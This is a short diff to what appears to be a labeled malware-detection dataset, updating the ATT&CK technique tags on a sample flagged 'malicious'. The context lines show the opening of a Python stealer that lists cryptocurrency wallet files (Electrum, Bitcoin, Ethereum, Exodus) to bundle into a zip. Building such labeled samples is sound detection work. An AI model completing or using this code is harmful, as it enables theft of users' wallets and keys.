@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1005,T1552.001,T1041 lines=3,10-11
+# label: malicious family=creds techniques=T1005,T1041,T1083,T1552.001,T1560.002 lines=3,10-11
 import os, zipfile, io, requests
 targets = ["~/.electrum/wallets", "~/.bitcoin/wallet.dat", "~/.ethereum/keystore", "~/.config/Exodus/exodus.wallet"]
 buf = io.BytesIO()
